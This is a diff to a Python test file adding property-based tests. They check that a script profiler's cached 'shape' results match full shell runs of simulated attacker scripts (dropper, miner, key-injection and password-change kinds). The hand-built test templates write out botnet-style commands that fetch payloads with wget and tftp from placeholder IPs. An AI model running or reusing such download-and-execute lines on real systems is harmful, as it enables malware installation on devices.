@@ -1,12 +1,20 @@
-"""Tests for the script profiler (single real execution per script)."""
+"""Tests for the script profiler (one shell run per script shape)."""
 
 import gc
+import string
 import types
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
+import repro
+from repro.agents import scripts
 from repro.agents.scripts import ScriptKind, ScriptTemplate, build_script
+from repro.obs import use_metrics
+from repro.workload.config import ScenarioConfig
 from repro.workload.script_runner import ScriptRunner
+from tests.test_golden_digests import GOLDEN
 
 
 @pytest.fixture(scope="module")
@@ -134,3 +142,140 @@ class TestPayloadLifetime:
         for template in _campaign_scripts(50):
             runner.profile(template)
         assert runner.profile(target) == first
+
+
+def full_run(template):
+    """``template``'s profile from a fresh shell run of its own lines."""
+    return ScriptRunner()._run(template)
+
+
+#: Tokens the shape path must not confuse with fixed text: each occurs
+#: in some script's lines or in the shell's paths and output.
+FIXED_TEXT_TOKENS = ["tmp", "bin", "1", "7", "777", "sh", "bins", "xm",
+                     "ssh", "var", "root", "arm7", "busybox", "x"]
+
+#: Printable text, for fills the shell could tell from a placeholder (a
+#: space, a quote, a leading dash).
+_JUNK = st.text(string.printable, max_size=8)
+_TOKENS = st.one_of(
+    st.sampled_from(FIXED_TEXT_TOKENS + [""]),
+    st.text(string.ascii_letters + string.digits + "._-", max_size=14),
+    _JUNK,
+)
+_HOSTS = st.one_of(
+    st.sampled_from(["", "198.51.100.7", "203.0.113.10", "1", "tmp"]),
+    st.integers(0, 255).map(lambda n: f"198.51.100.{n}"),
+    _JUNK,
+)
+
+
+def _hand_built(token, host):
+    """Templates written outside ``build_script``: a fetch whose URI holds
+    the token but that no payload is registered under, and files whose
+    hashes can coincide once filled (``echo x`` against the token ``x``)."""
+    T, H = scripts.TOKEN, scripts.HOST
+    fills = ((T, token), (H, host))
+    return [
+        # Like the peer-uri probe: the resolver's default bytes follow
+        # the URI, so the hash is not a substitution of the token.
+        ScriptTemplate.filled(ScriptKind.FILELESS, token, [
+            f"cd /tmp; wget http://{H}/bins/arm7.{T}",
+            f"tftp -g -r {T}.sh {H}",
+        ], fills),
+        ScriptTemplate.filled(ScriptKind.FILE_TOKEN, token, [
+            f"echo {T} > /tmp/a; echo x > /tmp/b",
+            f"echo {T} >> /tmp/b; cat /proc/cpuinfo > /tmp/c",
+            f"echo http://{H}/x http://198.51.100.7/x",
+            "exit",
+            f"echo {T} > /tmp/never",
+        ], fills),
+    ]
+
+
+def _outcome(profile, template):
+    """What ``profile(template)`` gives: the profile's fields, or the error
+    it raised (junk such as `> /tmp` makes the shell write into a
+    directory, which it does not survive on either path)."""
+    try:
+        p = profile(template)
+    except OSError as exc:
+        return type(exc)
+    return (p.commands, p.uris, p.hashes, p.exec_seconds, p.download_seconds)
+
+
+class TestShapeEquivalence:
+    """A profile filled in from a shape equals a full run of the script."""
+
+    @settings(max_examples=300, deadline=None)
+    @given(kind=st.sampled_from(list(ScriptKind)), first=_TOKENS,
+           token=_TOKENS, first_host=_HOSTS, host=_HOSTS)
+    def test_every_kind_matches_a_full_run(self, kind, first, token,
+                                           first_host, host):
+        runner = ScriptRunner()
+        _outcome(runner.profile,
+                 build_script(kind, token=first, dropper_host=first_host))
+        template = build_script(kind, token=token, dropper_host=host)
+        assert (_outcome(runner.profile, template)
+                == _outcome(full_run, template))
+
+    @settings(max_examples=100, deadline=None)
+    @given(first=_TOKENS, token=_TOKENS, first_host=_HOSTS, host=_HOSTS)
+    def test_hand_built_templates_match_a_full_run(self, first, token,
+                                                   first_host, host):
+        runner = ScriptRunner()
+        for template in _hand_built(first, first_host):
+            _outcome(runner.profile, template)
+        for template in _hand_built(token, host):
+            assert (_outcome(runner.profile, template)
+                    == _outcome(full_run, template))
+
+    @pytest.mark.parametrize("kind", [
+        ScriptKind.KEY_INJECT, ScriptKind.DROPPER, ScriptKind.MINER,
+        ScriptKind.FILE_TOKEN])
+    def test_one_shell_run_per_shape(self, kind):
+        # Same-length tokens and several hosts: one shape per kind.
+        with use_metrics() as metrics:
+            runner = ScriptRunner()
+            for i in range(10, 30):
+                runner.profile(build_script(
+                    kind, token=f"c{i}", dropper_host=f"198.51.100.{i}"))
+        assert metrics.counter("script.shell_runs") == 1
+        assert metrics.counter("script.shape_hits") == 19
+
+    def test_unsubstitutable_scripts_run_in_full(self):
+        with use_metrics() as metrics:
+            runner = ScriptRunner()
+            for i in range(10, 15):
+                runner.profile(build_script(ScriptKind.CHPASSWD, token=f"c{i}"))
+                runner.profile(_hand_built(f"c{i}", HOST)[0])
+        assert metrics.counter("script.shell_runs") == 11  # + 1 shape run
+        assert metrics.counter("script.shape_hits") == 0
+
+
+def test_generated_store_matches_full_runs(monkeypatch):
+    """Generate the gen-10k-w1 store, checking every profile (most of
+    them filled in from a shape) against a full shell run of its script."""
+    import repro.workload.shards as shards
+
+    checked, mismatches = [], []
+    profile_uncached = ScriptRunner._profile
+
+    def cross_checked(runner, template):
+        profile = profile_uncached(runner, template)
+        checked.append(template.token)
+        if profile != full_run(template):
+            mismatches.append(template.token)
+        return profile
+
+    monkeypatch.setattr(ScriptRunner, "_profile", cross_checked)
+    monkeypatch.setattr(shards, "_PLAN", None)
+    config = ScenarioConfig.from_denominator(40000, seed=2023)
+    with use_metrics() as metrics:
+        dataset = repro.generate(config, backend="inline", workers=1)
+    assert mismatches == []
+    assert len(checked) > 300
+    assert dataset.store.content_digest() == GOLDEN[(40000, 2023, 0.002)]
+    # The cross-check's own runs count too; without them the parent
+    # needed 343 runs here and the shape path needs 29.
+    assert metrics.counter("script.shell_runs") - len(checked) <= 40
+    assert metrics.counter("script.shape_hits") > 0
